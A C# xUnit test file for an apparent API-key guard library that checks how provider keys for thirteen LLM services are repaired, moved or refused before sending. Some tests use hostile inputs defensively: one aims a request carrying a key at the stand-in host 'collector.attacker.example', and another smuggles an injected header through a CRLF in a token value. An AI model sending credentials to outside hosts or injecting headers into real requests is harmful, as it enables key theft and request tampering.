using System.Net;
using ApiAuth.Tests.TestDoubles;

namespace ApiAuth.Tests.Providers;

/// <summary>
/// The pre-send checks for every provider, in that provider's place for the key: a clean key passes untouched, a dirty one
/// is repaired in place, a placeholder or another vendor's key is refused, a key in a header the provider does not read is
/// moved, the provider's alternative placement is accepted, a missing key is refused. Both doors.
/// </summary>
public sealed class PreSendPerProviderTests
{
    /// <summary>(provider id, base address, key header, scheme prefix, own key, foreign key, misplaced header).</summary>
    public static TheoryData<string, bool> Providers()
    {
        var data = new TheoryData<string, bool>();
        foreach (string id in new[] { "openai", "azure-openai", "anthropic", "gemini", "groq", "mistral", "openrouter", "deepseek", "xai", "together", "fireworks", "perplexity", "huggingface" })
        {
            data.Add(id, false);
            data.Add(id, true);
        }

        return data;
    }

    private sealed record Shape(string BaseAddress, string Header, string Scheme, string OwnKey, string ForeignKey, string? Misplaced);

    private static Shape For(string id) => id switch
    {
        "openai" => new("https://api.openai.com/v1/", "Authorization", "Bearer ", TestKeys.OpenAIProject(), TestKeys.Anthropic(), "api-key"),
        "azure-openai" => new("https://contoso.openai.azure.com/openai/", "api-key", string.Empty, TestKeys.Azure(), TestKeys.OpenAIProject(), "x-api-key"),
        "anthropic" => new("https://api.anthropic.com/v1/", "x-api-key", string.Empty, TestKeys.Anthropic(), TestKeys.OpenAIProject(), "api-key"),
        "gemini" => new("https://generativelanguage.googleapis.com/v1beta/", "x-goog-api-key", string.Empty, TestKeys.Google(), TestKeys.OpenAIProject(), "x-api-key"),
        "groq" => new("https://api.groq.com/openai/v1/", "Authorization", "Bearer ", TestKeys.Groq(), TestKeys.OpenAIProject(), "x-api-key"),
        "mistral" => new("https://api.mistral.ai/v1/", "Authorization", "Bearer ", TestKeys.Body(32), TestKeys.Anthropic(), "x-api-key"),
        "openrouter" => new("https://openrouter.ai/api/v1/", "Authorization", "Bearer ", TestKeys.OpenRouter(), TestKeys.OpenAIProject(), "x-api-key"),
        "deepseek" => new("https://api.deepseek.com/", "Authorization", "Bearer ", TestKeys.DeepSeek(), TestKeys.Anthropic(), "x-api-key"),
        "xai" => new("https://api.x.ai/v1/", "Authorization", "Bearer ", TestKeys.XAI(), TestKeys.OpenAIProject(), "x-api-key"),
        "together" => new("https://api.together.xyz/v1/", "Authorization", "Bearer ", TestKeys.Body(64).ToLowerInvariant(), TestKeys.Anthropic(), "x-api-key"),
        "fireworks" => new("https://api.fireworks.ai/inference/v1/", "Authorization", "Bearer ", "fw_" + TestKeys.Body(24), TestKeys.OpenAIProject(), "x-api-key"),
        "perplexity" => new("https://api.perplexity.ai/", "Authorization", "Bearer ", "pplx-" + TestKeys.Body(48), TestKeys.OpenAIProject(), "x-api-key"),
        "huggingface" => new("https://router.huggingface.co/v1/", "Authorization", "Bearer ", "hf_" + TestKeys.Body(34), TestKeys.OpenAIProject(), "x-api-key"),
        _ => throw new ArgumentOutOfRangeException(nameof(id)),
    };

    private static TestClient Client(Shape shape) => new(new RecordingHandler(), baseAddress: shape.BaseAddress);

    private static HttpRequestMessage Request(params (string Name, string Value)[] headers)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, "chat/completions") { Content = new StringContent("{}") };
        foreach ((string name, string value) in headers)
        {
            request.Headers.TryAddWithoutValidation(name, value);
        }

        return request;
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_CleanKeyInProvidersPlace_IsSentUntouchedToDetectedProfile(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);

        using HttpResponseMessage response = await client.SendAsync(sync, Request((shape.Header, shape.Scheme + shape.OwnKey)));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(shape.Scheme + shape.OwnKey, client.Stub.Single.Header(shape.Header));
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_KeyWithQuotesAndNewline_IsRepairedInProvidersPlace(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);

        using HttpResponseMessage response = await client.SendAsync(sync, Request((shape.Header, shape.Scheme + "\"" + shape.OwnKey + "\"\r\n")));

        Assert.Equal(shape.Scheme + shape.OwnKey, client.Stub.Single.Header(shape.Header));
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_PlaceholderInProvidersPlace_IsRefused(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);

        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, Request((shape.Header, shape.Scheme + "YOUR_API_KEY"))));

        Assert.Equal(AuthFailureCause.PlaceholderKey, e.Failure.Cause);
        Assert.Equal(id, e.Failure.Provider);
        Assert.Empty(client.Stub.Requests);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_AnotherVendorsKey_IsRefusedAsWrongProviderKey(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);

        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, Request((shape.Header, shape.Scheme + shape.ForeignKey))));

        Assert.Equal(AuthFailureCause.WrongProviderKey, e.Failure.Cause);
        Assert.DoesNotContain(shape.ForeignKey, e.ToString(), StringComparison.Ordinal);
        Assert.Empty(client.Stub.Requests);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_NoKey_IsRefusedAsMissingKeyNamingTheVariable(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);

        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, Request()));

        Assert.Equal(AuthFailureCause.MissingKey, e.Failure.Cause);
        Assert.Matches("[A-Z_]+_(API_KEY|TOKEN|KEY)", e.Failure.Remediation);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_KeyInHeaderProviderDoesNotRead_IsMovedToProvidersPlace(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);

        using HttpResponseMessage response = await client.SendAsync(sync, Request((shape.Misplaced!, shape.OwnKey)));

        Assert.Equal(shape.Scheme + shape.OwnKey, client.Stub.Single.Header(shape.Header));
        Assert.Null(client.Stub.Single.Header(shape.Misplaced!));
    }

    [Theory]
    [InlineData("anthropic", false)]
    [InlineData("anthropic", true)]
    [InlineData("gemini", false)]
    public async Task Send_BearerWhereProviderAlsoReadsIt_IsAccepted(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);

        using HttpResponseMessage response = await client.SendAsync(sync, Request(("Authorization", "Bearer " + shape.OwnKey)));

        Assert.Equal("Bearer " + shape.OwnKey, client.Stub.Single.Header("Authorization"));
        Assert.Null(client.Stub.Single.Header(shape.Header));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Send_AzureEntraBearerToken_IsAcceptedAndExpiredOneRefused(bool sync)
    {
        Shape shape = For("azure-openai");
        using TestClient client = Client(shape);
        string future = Jwt(DateTimeOffset.UtcNow.AddHours(1));
        string past = Jwt(DateTimeOffset.UtcNow.AddHours(-2));

        using HttpResponseMessage ok = await client.SendAsync(sync, Request(("Authorization", "Bearer " + future)));
        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, Request(("Authorization", "Bearer " + past))));

        Assert.Single(client.Stub.Requests);
        Assert.Equal(AuthFailureCause.ExpiredCredential, e.Failure.Cause);
        Assert.Equal("azure-openai", e.Failure.Provider);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Send_GeminiKeyInQueryString_IsCheckedToo(bool sync)
    {
        Shape shape = For("gemini");
        using TestClient client = Client(shape);

        var good = new HttpRequestMessage(HttpMethod.Post, "models/gemini-2.0-flash:generateContent?key=" + shape.OwnKey) { Content = new StringContent("{}") };
        (await client.SendAsync(sync, good)).Dispose();
        var placeholder = new HttpRequestMessage(HttpMethod.Post, "models/gemini-2.0-flash:generateContent?key=YOUR_API_KEY");
        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, placeholder));

        Assert.Single(client.Stub.Requests);
        Assert.Equal(AuthFailureCause.PlaceholderKey, e.Failure.Cause);
    }

    private static string Jwt(DateTimeOffset expiry)
    {
        static string B64(string s) => Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(s)).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        return B64("{\"alg\":\"RS256\",\"typ\":\"JWT\"}") + "." + B64($"{{\"aud\":\"https://cognitiveservices.azure.com\",\"exp\":{expiry.ToUnixTimeSeconds()}}}") + "." + TestKeys.Body(43);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_OwnKeyToHostOutsideAllowedHosts_IsRefused_Issue11(string id, bool sync)
    {
        Shape shape = For(id);
        using var client = new TestClient(new RecordingHandler(), o =>
        {
            o.Provider = id;
            o.AllowedHosts.Add(new Uri(shape.BaseAddress).Host);
        }, baseAddress: shape.BaseAddress);
        using var request = new HttpRequestMessage(HttpMethod.Post, "https://collector.attacker.example/v1/chat/completions") { Content = new StringContent("{}") };
        request.Headers.TryAddWithoutValidation(shape.Header, shape.Scheme + shape.OwnKey);

        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, request));

        Assert.Equal(AuthFailureCause.WrongEndpoint, e.Failure.Cause);
        Assert.Empty(client.Stub.Requests);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_LineBreakInsideASecondCarrier_IsRefused_Issue11(string id, bool sync)
    {
        Shape shape = For(id);
        using TestClient client = Client(shape);
        using HttpRequestMessage request = Request((shape.Header, shape.Scheme + shape.OwnKey), ("X-Auth-Token", "tok" + TestKeys.Body(20) + "\r\nX-Injected: 1"));

        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, request));

        Assert.Equal(AuthFailureCause.MalformedKey, e.Failure.Cause);
        Assert.Contains("X-Auth-Token", e.Failure.Remediation, StringComparison.Ordinal);
        Assert.Empty(client.Stub.Requests);
    }

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task Send_OwnKeyOverPlainHttpToOwnNetwork_IsRefusedOnlyInACloudFormat_Issue10(string id, bool sync)
    {
        // Keys with a published, unmistakable prefix are a cloud provider's; Azure, Mistral, Together and DeepSeek keys are not recognisable as such.
        bool cloudFormat = id is not ("azure-openai" or "mistral" or "together" or "deepseek");
        Shape shape = For(id);
        using var client = new TestClient(new RecordingHandler(), o => o.Provider = id, baseAddress: shape.BaseAddress);
        using var request = new HttpRequestMessage(HttpMethod.Post, "http://10.0.0.5:8000/v1/chat/completions") { Content = new StringContent("{}") };
        request.Headers.TryAddWithoutValidation(shape.Header, shape.Scheme + shape.OwnKey);

        Exception? e = await Record.ExceptionAsync(async () => (await client.SendAsync(sync, request)).Dispose());

        if (cloudFormat)
        {
            Assert.Equal(AuthFailureCause.WrongEndpoint, Assert.IsType<ApiAuthException>(e).Failure.Cause);
            Assert.Empty(client.Stub.Requests);
        }
        else
        {
            Assert.Null(e);
            Assert.Single(client.Stub.Requests);
        }
    }
}
